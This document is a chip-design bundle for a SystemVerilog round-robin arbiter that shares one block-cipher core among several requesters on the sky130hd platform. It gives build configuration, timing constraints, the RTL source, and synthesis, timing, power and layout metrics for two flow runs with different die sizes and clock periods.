==> config.mk <==
export PLATFORM = sky130hd
export DESIGN_NAME = crypto_core_arbiter
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/crypto_core_arbiter_pkg.sv /design/src/rtl/crypto_core_arbiter_rr_picker.sv /design/src/rtl/crypto_core_arbiter.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CAP_MARGIN = 20
export CELL_PAD_IN_SITES_DETAIL_PLACEMENT = 0
export CELL_PAD_IN_SITES_GLOBAL_PLACEMENT = 1
export CORE_AREA = 2 2 607 609
export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_4
export CTS_CLUSTER_DIAMETER = 60
export CTS_CLUSTER_SIZE = 20
export DETAILED_ROUTE_END_ITERATION = 10
export DIE_AREA = 0 0 609 611
export PLACE_DENSITY = 0.36
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
==> constraint.sdc <==
create_clock -name clk -period 6.95 [get_ports clk]
set_input_delay 1.0425 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 1.0425 -clock clk [all_outputs]
set_load 0.02 [all_outputs]
==> src/rtl/crypto_core_arbiter_pkg.sv <==
// Shared types and defaults for the crypto core arbiter and related arbiters.
package crypto_arb_pkg;
  typedef enum logic [1:0] {IDLE, ISSUE, WAIT, RESP} arb_state_e;

  localparam int DEF_BLOCK_W        = 128;
  localparam int DEF_TIMEOUT_CYCLES = 32;
endpackage

==> src/rtl/crypto_core_arbiter_rr_picker.sv <==
// Combinational round-robin pick: first set request bit at or after ptr, wrapping.
module rr_picker #(
  parameter  int NUM_REQ = 4,
  localparam int IDX_W   = $clog2(NUM_REQ)
) (
  input  logic [NUM_REQ-1:0] req,
  input  logic [IDX_W-1:0]   ptr,
  output logic               any,
  output logic [NUM_REQ-1:0] gnt,
  output logic [IDX_W-1:0]   idx
);
  logic [IDX_W:0]   sum;
  logic [IDX_W-1:0] cand;

  // Walk from the farthest offset down so the nearest requester wins.
  always_comb begin
    any  = 1'b0;
    gnt  = '0;
    idx  = '0;
    sum  = '0;
    cand = '0;
    for (int k = NUM_REQ-1; k >= 0; k--) begin
      sum = {1'b0, ptr} + (IDX_W+1)'(k);
      if (sum >= (IDX_W+1)'(NUM_REQ)) sum = sum - (IDX_W+1)'(NUM_REQ);
      cand = sum[IDX_W-1:0];
      if (req[cand]) begin
        any       = 1'b1;
        gnt       = '0;
        gnt[cand] = 1'b1;
        idx       = cand;
      end
    end
  end
endmodule

==> src/rtl/crypto_core_arbiter.sv <==
// Round-robin sequencer sharing one block-cipher core among NUM_REQ requesters.
// Optional watchdog abort on a hung core: define CRYPTO_ARB_WDOG_EN.
module crypto_core_arbiter
  import crypto_arb_pkg::*;
#(
  parameter  int NUM_REQ        = 4,
  parameter  int BLOCK_W        = DEF_BLOCK_W,
  parameter  int TIMEOUT_CYCLES = DEF_TIMEOUT_CYCLES,
  localparam int IDX_W          = $clog2(NUM_REQ)
) (
  input  logic                       clk,
  input  logic                       rst,
  input  logic [NUM_REQ-1:0]         req_valid,
  output logic [NUM_REQ-1:0]         req_ready,
  input  logic [NUM_REQ*BLOCK_W-1:0] req_plaintext,
  input  logic [NUM_REQ*BLOCK_W-1:0] req_key,
  output logic                       rsp_valid,
  input  logic                       rsp_ready,
  output logic [IDX_W-1:0]           rsp_id,
  output logic [BLOCK_W-1:0]         rsp_data,
  output logic                       rsp_err,
  output logic                       core_start,
  output logic [BLOCK_W-1:0]         core_plaintext,
  output logic [BLOCK_W-1:0]         core_key,
  input  logic                       core_done,
  input  logic [BLOCK_W-1:0]         core_ciphertext
);
  arb_state_e         state;
  logic [IDX_W-1:0]   rr_ptr, win_idx, next_ptr;
  logic [NUM_REQ-1:0] win_gnt;
  logic               win_any, grant;

  rr_picker #(.NUM_REQ(NUM_REQ)) u_pick (
    .req (req_valid),
    .ptr (rr_ptr),
    .any (win_any),
    .gnt (win_gnt),
    .idx (win_idx)
  );

  // Grant is combinational so the requester sees ready in the cycle it wins.
  assign grant     = (state == IDLE) && win_any && !rst;
  assign req_ready = grant ? win_gnt : '0;
  assign next_ptr  = (win_idx == IDX_W'(NUM_REQ-1)) ? '0 : win_idx + 1'b1;

`ifdef CRYPTO_ARB_WDOG_EN
  localparam int CNT_W = $clog2(TIMEOUT_CYCLES+1);
  logic [CNT_W-1:0] wd_cnt;
`else
  assign rsp_err = 1'b0;
`endif

  always_ff @(posedge clk) begin
    if (rst) begin
      state          <= IDLE;
      rr_ptr         <= '0;
      core_start     <= 1'b0;
      core_plaintext <= '0;
      core_key       <= '0;
      rsp_valid      <= 1'b0;
      rsp_id         <= '0;
      rsp_data       <= '0;
`ifdef CRYPTO_ARB_WDOG_EN
      rsp_err        <= 1'b0;
      wd_cnt         <= '0;
`endif
    end else begin
      core_start <= 1'b0;
      case (state)
        IDLE: if (grant) begin
          core_plaintext <= req_plaintext[int'(win_idx)*BLOCK_W +: BLOCK_W];
          core_key       <= req_key[int'(win_idx)*BLOCK_W +: BLOCK_W];
          rsp_id         <= win_idx;
          rr_ptr         <= next_ptr;
          core_start     <= 1'b1;
          state          <= ISSUE;
        end
        ISSUE: begin
`ifdef CRYPTO_ARB_WDOG_EN
          wd_cnt <= '0;
`endif
          state <= WAIT;
        end
        WAIT: begin
          if (core_done) begin
            rsp_data  <= core_ciphertext;
            rsp_valid <= 1'b1;
`ifdef CRYPTO_ARB_WDOG_EN
            rsp_err   <= 1'b0;
`endif
            state     <= RESP;
          end
`ifdef CRYPTO_ARB_WDOG_EN
          // Expire on the last WAIT cycle so the abort response lands TIMEOUT_CYCLES after entry.
          else if (wd_cnt == CNT_W'(TIMEOUT_CYCLES-1)) begin
            rsp_data  <= '0;
            rsp_err   <= 1'b1;
            rsp_valid <= 1'b1;
            state     <= RESP;
          end else begin
            wd_cnt <= wd_cnt + 1'b1;
          end
`endif
        end
        RESP: if (rsp_ready) begin
          rsp_valid <= 1'b0;
          state     <= IDLE;
        end
        default: state <= IDLE;
      endcase
    end
  end
endmodule

After elaboration in Yosys (flattened, before gate mapping):

Cells that the tools add are included.

* word-level logic and storage cells: 94
* register bits after elaboration: 392
* input bits: 1160

* muxes and demuxes: 42
* magnitude comparators: 12
* shifts and indexed selects: 2
* bitwise gates (word level): 1
* reductions and logical operators: 14
* equal/unequal tests: 7
* add/sub/neg operators: 8

Operator list (number)
* $shiftx 512x10->128: 2
* $mux 2: 12
* $mux 4: 5
* $mux 1: 15
* $lt 2x3->1 const B: 4
* $ge 3x3->1 const B: 3
* $bmux 1 s2: 4
* $demux 1 s2: 4
* $ge 2x1->1 const B: 4
* $pmux 2 s4: 1
* $sub 2x1->2 const B: 4
* $add 2x2->3 const B: 2
* $eq 2x2->1 const B: 3
* $logic_and 1x1->1: 6
* $ne 2x2->1 const B: 3
* $reduce_and 3->1: 2
* $reduce_and 2->1: 2
* $add 2x1->3 const B: 1
* $ge 2x3->1 const B: 1
* $add 2x1->2 const B: 1
* $eq 2x1->1 const B: 1
* $logic_not 2->1: 1
* $pmux 1 s2: 1
* $reduce_bool 2->1: 1
* 3 further kinds: 3

Longest topological paths before layout:

Gate-level depths: netlist of the first run.

* depth in word-level cells: 13
* gate-level depth with buffers: 16

By module:

A second synthesis of the first run with hierarchy kept.

* cell total of the unflattened synthesis: 2116
* area total of the unflattened synthesis: 20225.6 um^2

By module, submodules not included
* crypto_core_arbiter: sequential area each 7847.5 um^2, cells each 2031, instances 1, area an instance 19542.5 um^2
* rr_picker: sequential area each 0.0 um^2, cells each 85, instances 1, area an instance 683.2 um^2

Worst setup path after synthesis of the first run:

OpenSTA, ideal clock, no wires.

* path kind: register to output
* from: register rr_ptr[0]
* to: output req_ready[0]
* cell stages (with the launch flop): 11
* path buffers: 4
* path slack: 2.879 ns
* arrival: 3.028 ns
* path through: dfxtp_1 buf_2 clkinv_1 clkbuf_1 ha_1 clkbuf_1 mux4_2 buf_2 o21ai_0 nand2_1 a21oi_1

* word-level cells in the longest chain between the ends: 12
* elaborated cells on any way between the ends: 54
* classes of those cells: 7 x add/sub; 12 x order compare; 29 x mux; 6 x reduce/logical

Ends and longest elaborated chain
* start: declaration: line crypto_core_arbiter.sv:29 `logic [IDX_W-1:0] rr_ptr, win_idx, next_ptr;`
* start signal: assignment: line crypto_core_arbiter.sv:74 `rr_ptr <= next_ptr;`
* $add 2x2->3: line crypto_core_arbiter_rr_picker.sv:23 `sum = {1'b0, ptr} + (IDX_W+1)'(k);`
* $ge 3x3->1 / $sub 2x1->2 (equally long branches): line crypto_core_arbiter_rr_picker.sv:24 `if (sum >= (IDX_W+1)'(NUM_REQ)) sum = sum - (IDX_W+1)'(NUM_REQ);`
* $mux 2: line crypto_core_arbiter_rr_picker.sv:24
* $lt 2x3->1 (implied by the code) (tied with other cells): line crypto_core_arbiter_rr_picker.sv:29 `gnt[cand] = 1'b1;`
* $logic_and 1x1->1 (implied by the code) / $mux 1 (equally long branches): line crypto_core_arbiter_rr_picker.sv:29, crypto_core_arbiter_rr_picker.sv:26
* $mux 1 (on tied branches): line crypto_core_arbiter_rr_picker.sv:29, crypto_core_arbiter_rr_picker.sv:26
* $demux 1 s2 / $mux 1 (equally long branches)
* $mux 4 / $mux 1 (equally long branches) (2 in series): line crypto_core_arbiter_rr_picker.sv:26 `if (req[cand]) begin`
* $mux 4 / $logic_and 1x1->1 (equally long branches) (2 in series): line crypto_core_arbiter_rr_picker.sv:26, crypto_core_arbiter.sv:42
* $mux 4 *: line crypto_core_arbiter.sv:43 `assign req_ready = grant ? win_gnt : '0;`
* end: declaration: line crypto_core_arbiter.sv:14 `output logic [NUM_REQ-1:0] req_ready,`

Mark *: on every way between the ends. The rest lies on a longest branch, timed or not. The select of a mux whose other input is x is not followed.

Worst setup path after layout of the first run:

Same ends and word-level chain as after synthesis.

==> run_results.csv, run 1 <==
group,metric,value,unit
status,status,"complete, no violations",
synth,synth-seq-cells,392,
critical_path,worst_setup_path_end_kind,"output pin",
critical_path,rr_worst_depth,10,
routing,dr.first_iter.drc_count,3143,
global_routing,antenna_found_initial,350,
floorplanning,start_util,0.0743,
global_routing,overflow,0,
floorplanning,die_w,609,um
synth,syn_inst,3757,
sta,setup_violations,0,
sta,finalCritPeriodShare,0.811,
floorplanning,die_h,611,um
global_routing,grt_pass1_wl,419,mm
min_path,min_from,"core_ciphertext[32]",
sta,final_max_slew_viol_count,0,
clock_network,path_clk_slew,0.12,ns
placement,dpl.hpwl,266,mm
synth,syn_nets,4929,
sta,rsz0062_at_grt,"no",
synth,synth.top_cell.area_share,0.289,
clock_network,cts_sinks,392,
sta,fmax,0.177,GHz
sta,setup_tns,0,ns
critical_path,crit_chain,"clkinv_2, buf_4, buf_4, ha_1, a22oi_1, o21ai_0, nand2_1, a21oi_1, clkdlybuf4s50_1",
critical_path,critPathMaxFanout,40,
routing,via_per_inst,3.93,
critical_path,cpMostUsedCell,"buf_4",
critical_path,critPathRequiredTime,5.91,ns
synth,syn-cell-area,0.0271,sq mm
synth,synth_edf_count,0,
synth,syn_area_per_cell,7.22,sq um
min_path,hold_end,"rsp_data[32]",
floorplanning,rows,222,
synth,synth_common_cells,"1108 x nand2_1, 392 x dfxtp_1, 315 x clkbuf_1, 279 x o22ai_1, 254 x a31oi_1",
clock_network,post-cts-setup-buffer-count,0,
final_layout,multi_input_area,0.0175,sq mm
final_layout,fill_cells,41700,
synth,yosys_most_used_dff,"dfxtp_1",
final_layout,fin_cells,10100,
synth,synth.distinct_cells,50,
sta,hold_viol_final,0,
critical_path,crit_type,"register to output pin",
power,total_leakage_power,16.7,nW
placement,dp.cells,9807,
critical_path,start_kind,"register",
clock_network,cts_tree,"yes",
power,cellPowerDensity,399,mW/mm^2
routing,drc_errors,0,
routing,drtAntennaViolNets,0,
critical_path,slowest_stage,"buf_4",
placement,portBuffers,1551,
sta,fin_worst_skew,0.204,ns
critical_path,reg2reg_slack,1.58,ns
clock_network,insertion_delay,1.33,ns
clock_network,postCtsResizedCells,0,
routing,routed_wl,331,mm
synth,yosysMostFrequentCell,"nand2_1",
synth,synth_warnings,0,
routing,vias,39900,
min_path,min_delay_path_depth,3,
final_layout,areaGrowthSynthToFinish,86.0,%
clock_network,htreeDepth,3,
synth,synth_seq_area_share,0.289,
critical_path,max_stage_delay,0.70,ns
clock_network,cts_buffers,109,
min_path,hold_class,"input pin to register",
power,ir_drop,0.300,mV
floorplanning,core,0.365,sq mm
sta,finalCriticalPeriod,5.64,ns
floorplanning,die_area,0.372,sq mm
clock_network,cts_max_path_buffers,4,
placement,place_congestion,0.871,
synth,synth_top_cell_by_area,"dfxtp_1",
job,maxCapViolations,0,
sta,tightest_slew,1.25,ns
clock_network,holdBufCountCts,0,
clock_network,cts-root-buf,"clkbuf_4",
routing,drt-pass1-iter-count,7,
critical_path,r2r-start,"rr_ptr[1]",
global_routing,grtUsageTotal,0.169,
critical_path,r2r_end,"core_plaintext[122]",
final_layout,drive_above_1_share,0.0823,
sta,whs,0.246,ns
sta,maxSlewHeadroom,0.166,
global_routing,grt_max_degree,154,
routing,wl_per_cell,32.7,um
final_layout,seq_area,0.00785,sq mm
final_layout,fin_nets,6274,
synth,synth_area_leaders,"dfxtp_1 29%, nand2_1 15%, a221o_1 7.0%",
floorplanning,ios,1553,
global_routing,grt_pass1_vias,38100,
critical_path,arrival,4.59,ns
synth,async_reset_ff_frac,0,
[cell usage in the layout, fill, tap and decap left out, types with 12 or more instances in the layout]
cell / instances
a2111o_1: 64
a21o_1: 64
a21oi_1: 199
a221o_1: 189
a22oi_1: 69
a311oi_1: 189
a31oi_1: 254
and2_1: 64
buf_12: 34
buf_4: 88
bufinv_16: 20
clkbuf_4: 118
clkdlybuf4s50_1: 1550
clkinv_1: 20
clkinv_2: 23
dfxtp_1: 391
diode_2: 130
ha_1: 12
nand2_1: 1106
nand3_1: 198
o21ai_0: 74
o22ai_1: 279
o22ai_2: 99
[cells by family after synthesis]
group | share of synthesized area
compound gates | 0.420
simple gates | 0.209
buf+inv | 0.0694
flops | 0.289
mux | 0.00632
fa+ha+maj | 0.00554
other cells | 0.000138
xor+xnor | 0.000323
[layer usage]
metal,global-route usage,wire length (um)
met2,0.283,157000
met3,0.0793,34600
met5,0,1320
met4,0.0534,10500
met1,0.190,128000
[sequential cells by signal (all words and copies together), names as in the netlist]
name	flops
core_start	1
core_plaintext	128
rsp_valid	1
rsp_data	128
rsp_id	2
state	2
rr_ptr	2
core_key	128
[cell type report]
type	instances	area share
Tap cell	4816	0.119
Clock buffer	118	0.0176
Sequential cell	392	0.156
Multi-Input combinational cell	2918	0.347
Clock inverter	78	0.0184
Inverter	7	0.000546
Timing Repair Buffer	1674	0.335
Antenna cell	130	0.00645
[worst max-delay path, delay by kind of cell, from the launching register on]
family	cells	cell delay, ns
buffers and inverters	4	1.90
flip-flops	1	0.41
AND/OR/NAND/NOR	1	0.08
adder cells (fa/ha/maj)	1	0.32
AO/OA/AOI/OAI	3	0.52
[stage by stage]
stage                     utilization  power [W]  instance area, sq um  setup WS (ns)
after detailed placement        0.132     0.0171                 48300           1.27
after global routing            0.138     0.0214                 50300           1.00
after floorplan                     -     0.0106                 27100           2.88
after global placement          0.132     0.0170                 48200           1.29
final                           0.138     0.0201                 50400           1.31
after CTS                       0.137     0.0205                 50100           1.08
[power by group]
part	leakage [nW]	switching (W)	internal, W
sequential	3.22	0.000484	0.00289
combinational	12.4	0.00864	0.00487
clock	1.01	0.00161	0.00162
total	16.7	0.0107	0.00937
[worst max path at each step]
stage                             from             endpoint  cells past startpoint
after floorplan              rr_ptr[0]         req_ready[0]                     10
after global placement    req_valid[1]  core_plaintext[122]                      9
after detailed placement  req_valid[1]  core_plaintext[122]                      9
after CTS                    rr_ptr[0]         req_ready[0]                      9
after global routing         rr_ptr[1]         req_ready[1]                      9
final                        rr_ptr[0]         req_ready[0]                      9
No activity file was read; power rests on OpenSTA's default activity.
==> run 2: changes to the inputs <==
--- a/config.mk
+++ b/config.mk
@@ -8,12 +8,12 @@
 export CAP_MARGIN = 20
 export CELL_PAD_IN_SITES_DETAIL_PLACEMENT = 0
 export CELL_PAD_IN_SITES_GLOBAL_PLACEMENT = 1
-export CORE_AREA = 2 2 607 609
+export CORE_AREA = 2 2 611 613
 export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_4
 export CTS_CLUSTER_DIAMETER = 60
 export CTS_CLUSTER_SIZE = 20
 export DETAILED_ROUTE_END_ITERATION = 10
-export DIE_AREA = 0 0 609 611
+export DIE_AREA = 0 0 613 615
 export PLACE_DENSITY = 0.36
 export SYNTH_ARGS = -nofsm -noshare
 export SYNTH_HDL_FRONTEND = slang
==> constraint.sdc (replaced) <==
create_clock -name clk -period 5.4 [get_ports clk]
set_input_delay 0.81 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.81 -clock clk [all_outputs]
set_load 0.02 [all_outputs]
==> run 2 against run 1 <==
Compared with the run above:
- clock power is 16% higher
- sequential share of layout area decreased by 0.51 points
- clock-buffer cell count decreased by 1
- hold slack gained 0.031 ns
- critical path type unchanged
- highest routed layer unchanged
==> run_results.csv, run 2 (synthesis gave the netlist of run 1 again) <==
group,metric,value,unit
status,status,"complete, no violations",
floorplanning,start_util,0.0731,
power,comb_power_share,0.688,
min_path,hold_class,"input pin to register",
sta,rsz0062_at_grt,"no",
critical_path,slowest_stage,"mux4_2",
power,cellPowerDensity,494,mW/mm^2
power,power.share.clock,0.144,
placement,dpl.hpwl,260,mm
routing,drtAntennaViolNets,0,
power,total_leakage_power,17.4,nW
floorplanning,die_area,0.377,sq mm
critical_path,start_kind,"register",
critical_path,crit_chain,"inv_1, ha_2, mux4_2, o21ai_0, nand2_1, a21oi_1, clkdlybuf4s50_1",
global_routing,grt_pass1_vias,38600,
final_layout,areaGrowthSynthToFinish,92.3,%
sta,setup_tns,0,ns
global_routing,grt_max_degree,141,
clock_network,path_clk_slew,0.12,ns
clock_network,cts_tree,"yes",
clock_network,htreeDepth,3,
clock_network,cts-root-buf,"clkbuf_4",
clock_network,cts_buffers,103,
sta,finalCritPeriodShare,0.936,
placement,dp_slack,0.701,ns
final_layout,final_util,0.141,
critical_path,arrival,4.25,ns
power,p_switching,0.0139,W
final_layout,fin_nets,6454,
final_layout,reg_top3,"core_key (128), core_plaintext (128), rsp_data (128)",
global_routing,antenna_found_initial,251,
floorplanning,ios,1553,
placement,portBuffers,1551,
power,sw_frac_of_total,0.541,
global_routing,overflow,0,
critical_path,critPathRequiredTime,4.59,ns
sta,fmax,0.198,GHz
power,ir_drop,0.496,mV
sta,hold_viol_final,0,
placement,place_congestion,0.844,
floorplanning,core,0.371,sq mm
routing,dr.first_iter.drc_count,3497,
critical_path,critPathMaxFanout,11,
routing,routed_wl,325,mm
clock_network,insertion_delay,1.26,ns
sta,tightest_slew,1.17,ns
critical_path,crit_type,"register to output pin",
routing,wl_per_cell,31.2,um
critical_path,critPathTopFamily,"buffers and inverters",
routing,vias,40100,
sta,setup_violations,0,
clock_network,cts_max_path_buffers,4,
sta,setup_slack,0.344,ns
clock_network,cts_sinks,392,
floorplanning,die_h,615,um
global_routing,grtUsageTotal,0.164,
sta,finalCriticalPeriod,5.06,ns
routing,via_per_inst,3.85,
clock_network,post-cts-setup-buffer-count,0,
final_layout,drive_above_1_share,0.0800,
floorplanning,die_w,613,um
critical_path,worst_setup_path_end_kind,"output pin",
sta,fin_worst_skew,0.191,ns
final_layout,layout_commonest_cell,"clkdlybuf4s50_1",
sta,maxSlewHeadroom,0.216,
critical_path,critPathBufInv,2,
global_routing,grt_pass1_wl,414,mm
final_layout,final_cell_mix,"1550 x clkdlybuf4s50_1, 1106 x nand2_1, 390 x dfxtp_1, 279 x o22ai_1, 254 x a31oi_1",
job,maxCapViolations,0,
power,intPower,0.0118,W
critical_path,max_stage_delay,0.68,ns
routing,drc_errors,0,
routing,drt-pass1-iter-count,7,
power,seqPwrFrac,0.168,
sta,final_max_slew_viol_count,0,
floorplanning,rows,224,
run 2: worst register-to-register path: cells and delay by family (launching register included):
| family | cells | cell delay, ns |
|---|---|---|
| buf+inv | 3 | 0.96 |
| compound gates | 2 | 0.94 |
| simple gates | 3 | 0.83 |
| mux | 1 | 0.68 |
| fa+ha+maj | 1 | 0.49 |
| flops | 1 | 0.44 |
run 2: cell type report:
type	count	area, sq um
Inverter	7	27.5
Tap cell	4972	6220
Sequential cell	392	7850
Fill cell	42300	319000
Multi-Input combinational cell	2918	17500
Clock buffer	117	878
Timing Repair Buffer	1860	18700
Antenna cell	76	190
Clock inverter	66	733
run 2: through the flow:
step / instances / area (sq um) / power [W] / hold slack [ns]
finish: 10400 / 52200 / 0.0258 / 0.277
floorplan: 3757 / 27100 / 0.0136 / 0.518
global route: 10400 / 52100 / 0.0274 / 0.109
CTS: 10300 / 52000 / 0.0264 / 0.0000310
detailed placement: 9974 / 48600 / 0.0223 / 0.449
global placement: 9974 / 48600 / 0.0223 / 0.434
run 2: final timing paths:
check	startpoint	end	slack (ns)	depth (start not counted)
worst max-delay path	rr_ptr[1]	req_ready[3]	0.34	7
worst min-delay path	core_ciphertext[15]	rsp_data[15]	0.28	3
worst max register to register	rr_ptr[1]	core_plaintext[16]	0.88	10
worst min register to register	rsp_id[1]	rsp_id[1]	0.45	2
run 2: power by group through the flow:
stage | Clock [W] | Sequential [W] | Combinational [W]
global placement | 0 | 0.00440 | 0.0179
CTS | 0.00397 | 0.00434 | 0.0181
global route | 0.00401 | 0.00442 | 0.0189
floorplan | 0 | 0.00501 | 0.00862
detailed placement | 0 | 0.00438 | 0.0179
finish | 0.00372 | 0.00433 | 0.0177
run 2: repair_timing:
item                       in CTS  in global routing
hold endpoints to repair      174                  0
setup endpoints to repair       4                  0
hold buffers                  175                  0
resized for setup               2                  0
run 2: routing by layer:
layer	track usage	vias up	wire, um
li1	-	17500	-
met5	0	-	868
met1	0.194	19900	130000
met2	0.280	1982	156000
met4	0.0505	128	10400
met3	0.0523	554	27500
